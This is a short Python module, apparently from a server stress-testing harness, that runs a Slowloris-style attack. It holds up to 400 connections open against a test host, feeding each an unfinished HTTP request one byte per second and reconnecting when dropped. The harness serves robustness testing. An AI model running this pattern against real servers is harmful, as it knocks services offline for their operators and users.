"""Hundreds of connections that send a request byte by byte, every few seconds one, and never come to its end."""

from __future__ import annotations

import asyncio
import time

from abuse.hostile import HOST, Hostile, Line

TIMES = 4
"""This attack lasts so many times as long: patience takes its time."""
MOST = 400


async def attack(hostile: Hostile) -> None:
    """Four hundred; who is thrown out comes back."""
    text = f"GET / HTTP/1.1\r\nHost: {HOST}:{hostile.port}\r\nX-Slow: ".encode() + b"x" * 1000
    lines: dict[Line, int] = {}
    while time.monotonic() < hostile.end - 3.0:
        while len(lines) < MOST:
            try:
                lines[await hostile.connect()] = 0
            except OSError:
                break
            hostile.count("connections")
        for line, sent in list(lines.items()):
            if line.reader.at_eof() or not await line.send(text[sent : sent + 1]):
                hostile.count("thrown out")
                del lines[line]
                line.close()
            else:
                lines[line] = sent + 1
        await asyncio.sleep(1.0)
    await hostile.stay(list(lines))
